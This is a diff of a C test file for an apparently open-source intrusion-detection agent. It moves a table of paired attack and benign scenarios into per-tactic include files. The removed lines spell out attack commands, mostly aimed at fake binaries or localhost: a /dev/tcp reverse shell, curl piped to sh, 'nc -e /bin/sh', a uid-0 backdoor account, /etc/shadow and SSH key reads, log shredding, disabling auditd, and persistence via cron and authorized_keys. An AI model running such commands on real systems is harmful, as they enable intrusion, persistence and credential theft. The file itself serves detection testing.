@@ -3,7 +3,9 @@
  * simulations on this host, with the real agent: each scenario runs its
  * attack and a benign look-alike, each in a scratch directory of its own
  * (HOME points there too), and the rule must raise an alert for the
- * attack and none for the benign run.
+ * attack and none for the benign run.  The scenarios themselves are in
+ * tests/scenarios/, a file per ATT&CK tactic, included into the table
+ * below.
  *
  * Safety: everything happens in the scratch directories, except what a
  * scenario restores at once (the cron file: created empty and removed,
@@ -52,75 +54,11 @@ static const struct scenario {
 	const char *attack;
 	const char *benign;
 } scenarios[] = {
-	{ "f6649170-1793-4e8e-99d1-03bcdce00c7c", "bash /dev/tcp reverse shell",
-	  "bash -c 'echo hi > /dev/tcp/127.0.0.1/9' 2>/dev/null; true",
-	  "bash -c 'echo hi > /dev/null'" },
-	{ "7869ccf1-8664-4f00-969e-24a16fdba0aa", "download piped into a shell",
-	  "sh -c 'curl -fsS http://127.0.0.1:9/x.sh | sh' 2>/dev/null; true",
-	  "sh -c 'curl --version | head -n 1' >/dev/null 2>&1; true" },
-	{ "8b533c81-1e25-41ab-ac90-007456ebf4b6", "run from /tmp",
-	  FAKE("payload") "\"$D/payload\"",
-	  "/bin/true" },
-	{ "baae7a14-08c2-40ce-b2ac-2aab246d76d7", "run from a hidden directory",
-	  "mkdir .hid && cp /bin/true .hid/run && \"$D/.hid/run\"",
-	  "mkdir vis && cp /bin/true vis/run && \"$D/vis/run\"" },
-	{ "34508c21-caee-4817-917a-dc306f774a79", "account created",
-	  FAKE("useradd") "\"$D/useradd\" -o -u 0 -g 0 backdoor",
-	  FAKE("id") "\"$D/id\" -u" },
-	{ "7185ca32-3811-4728-a270-f51161c7ed8f", "setuid bit set",
-	  "touch f && chmod u+s \"$D/f\" && chmod 4755 \"$D/f\"",
-	  "touch f && chmod 755 \"$D/f\"" },
-	{ "fdc973b9-f95b-4c76-9644-70d6432a5010", "/etc/shadow read",
-	  "cat /etc/shadow > /dev/null",
-	  "cat /etc/hostname > /dev/null" },
-	{ "c05021fe-6862-4606-abd9-bdf75de0f57b", "history deleted",
-	  "touch .bash_history && rm \"$D/.bash_history\"",
-	  "touch notes && rm \"$D/notes\"" },
-	{ "c65cb649-ecdd-4d68-b25f-e83434ebd0a6", "firewall stopped",
-	  FAKE("systemctl") "\"$D/systemctl\" stop ufw.service",
-	  FAKE("systemctl") "\"$D/systemctl\" status ufw.service" },
-	{ "cad41218-cb4e-41a8-a14d-a2f594ba652c", "kernel module loaded",
-	  FAKE("insmod") "\"$D/insmod\" \"$D/rootkit.ko\"",
-	  FAKE("insmod") "\"$D/insmod\" --version" },
-	{ "5ccaf623-9de1-4c52-adb3-ae5e72dc1091", "crypto miner",
-	  "/bin/echo --donate-level=1 -o stratum+tcp://127.0.0.1:3333 > /dev/null",
-	  "/bin/echo mining report > /dev/null" },
-	{ "d2b256ac-b633-4b84-84f7-bf0ee8a43e32", "netcat serving a shell",
-	  FAKE("nc") "\"$D/nc\" -e /bin/sh 127.0.0.1 9",
-	  FAKE("nc") "\"$D/nc\" -z 127.0.0.1 9" },
-	{ "2fe4364d-b94e-42c4-9dd1-b35a1b46a045", "python pty shell",
-	  FAKE("python3") "\"$D/python3\" -c 'import pty; pty.spawn(\"/bin/sh\")'",
-	  FAKE("python3") "\"$D/python3\" -c 'print(1)'" },
-	{ "546977a7-78cc-440d-b5f8-fb7562ca345e", "cron job written",
-	  "made=; [ -d /etc/cron.d ] || { mkdir /etc/cron.d && made=1; }; "
-	  "printf '# hinomi test\\n' > \"/etc/cron.d/$T\"; rm -f \"/etc/cron.d/$T\"; "
-	  "[ -z \"$made\" ] || rmdir /etc/cron.d",
-	  "mkdir cron.d && printf '# x\\n' > \"$D/cron.d/$T\"" },
-	{ "b84bc687-2618-4037-ad2e-69630571f9e1", "authorized_keys written",
-	  "mkdir -p .ssh && echo 'ssh-ed25519 AAAAC3Nz test' >> \"$D/.ssh/authorized_keys\"",
-	  "mkdir -p .ssh && echo 'host ssh-ed25519 AAAA' >> \"$D/.ssh/known_hosts\"" },
-	{ "9f93b94e-92b0-4ae3-b7e7-102e40f32c23", ".bashrc written",
-	  "echo 'alias ls=ls' >> \"$D/.bashrc\"",
-	  "echo 'a note' >> \"$D/notes.txt\"" },
-	{ "da26bc2d-7230-48c5-bef1-b2416c7c4837", "systemd user unit written",
-	  "mkdir -p .config/systemd/user && printf '[Service]\\n' >"
-	  " \"$D/.config/systemd/user/$T.service\"",
-	  "mkdir -p notes && printf 'x' > \"$D/notes/$T.service\"" },
-	{ "cb3f83ab-43ab-46db-86d5-47ebdbc4957d", "LD_PRELOAD on a command line",
-	  "env LD_PRELOAD=\"$D/evil.so\" /bin/true",
-	  "env LANG=C /bin/true" },
-	{ "6b4d48e3-134a-406b-9811-70505417401a", "timestomping",
-	  "touch -d '2001-01-01 00:00' \"$D/f\"",
-	  "touch \"$D/f\"" },
-	{ "6425839c-4872-4a4b-88f9-224230f1c193", "logs wiped",
-	  FAKE("shred") "\"$D/shred\" -u /var/log/auth.log",
-	  FAKE("shred") "\"$D/shred\" -u \"$D/notes.log\"" },
-	{ "290bbd14-c7f3-4ab6-bc26-db4e86ff1233", "audit daemon stopped",
-	  FAKE("systemctl") "\"$D/systemctl\" stop auditd",
-	  FAKE("systemctl") "\"$D/systemctl\" status auditd" },
-	{ "e9cf19ac-f60a-4ac3-be39-f0e17ab04259", "ssh private key read",
-	  "mkdir -p .ssh && echo k > .ssh/id_rsa && cat \"$D/.ssh/id_rsa\"",
-	  "mkdir -p .ssh && echo k > .ssh/id_rsa.pub && cat \"$D/.ssh/id_rsa.pub\"" },
+#include "scenarios/execution.inc"
+#include "scenarios/persistence.inc"
+#include "scenarios/privilege_escalation.inc"
+#include "scenarios/credential_access.inc"
+#include "scenarios/defense_evasion.inc"
 };
 #define NSCEN (sizeof(scenarios) / sizeof(scenarios[0]))
 
